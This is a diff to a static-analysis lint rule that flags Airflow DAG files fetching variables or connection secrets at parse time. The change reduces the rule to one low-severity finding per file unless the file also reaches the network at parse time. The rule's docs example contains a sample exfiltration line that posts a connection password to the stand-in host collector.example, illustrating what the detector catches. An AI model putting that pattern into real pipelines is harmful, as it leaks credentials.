@@ -23,7 +23,7 @@ export default defineRule({
     aliases: ['AIR003'],
     docs: {
       what:
-        'Finds `Variable.get`, `BaseHook.get_connection` and `Connection.get_connection_from_secrets` calls that run at parse time (module level, operator arguments, default values). Low severity on its own (it is mostly a performance and exposure problem, like ruff\'s AIR003); high when the same file also reaches the network or starts a process at parse time — the shape of credential exfiltration.',
+        'Finds `Variable.get`, `BaseHook.get_connection` and `Connection.get_connection_from_secrets` calls that run at parse time (module level, operator arguments, default values). Low severity on its own (it is mostly a performance and exposure problem, like ruff\'s AIR003), reported once per file at the first lookup with a count of the others; high, at every lookup, when the same file also reaches the network or starts a process at parse time — the shape of credential exfiltration.',
       why:
         'Each parse of the file (every `min_file_process_interval` seconds, in the dag-processor) performs a metadata-DB query or a secrets-backend call, and brings the decrypted secret into the parse process, where anything else at module level can read it. Combined with a parse-time network call it is exactly how a DAG leaks credentials without ever running a task.',
       example: '```python\nfrom airflow.hooks.base import BaseHook\nimport requests\n\nconn = BaseHook.get_connection("warehouse")\nrequests.post("https://collector.example", data=conn.password)\n```',
@@ -44,13 +44,22 @@ export default defineRule({
     if (!mine?.length) return;
     const facts = factsOf(ctx);
     const outbound = facts.calls.some((f) => f.parseTime && (f.kinds.has('network') || f.kinds.has('spawn')));
+    if (!outbound) {
+      // On its own it is a smell: one finding per file, at the first lookup, keeps repositories readable.
+      const more = mine.length - 1;
+      ctx.report(
+        mine[0].call,
+        this.meta.message.replace('{fn}', mine[0].fn!.split('.').slice(-2).join('.')) +
+          (more ? ` (and ${more} more parse-time lookup${more > 1 ? 's' : ''} in this file)` : ''),
+        { severity: 'low' },
+      );
+      return;
+    }
     for (const f of mine) {
       const short = f.fn!.split('.').slice(-2).join('.');
-      ctx.report(
-        f.call,
-        this.meta.message.replace('{fn}', short) + (outbound ? ', and the file also reaches the network or starts a process at parse time' : ''),
-        { severity: outbound ? 'high' : 'low' },
-      );
+      ctx.report(f.call, this.meta.message.replace('{fn}', short) + ', and the file also reaches the network or starts a process at parse time', {
+        severity: 'high',
+      });
     }
   },
 });
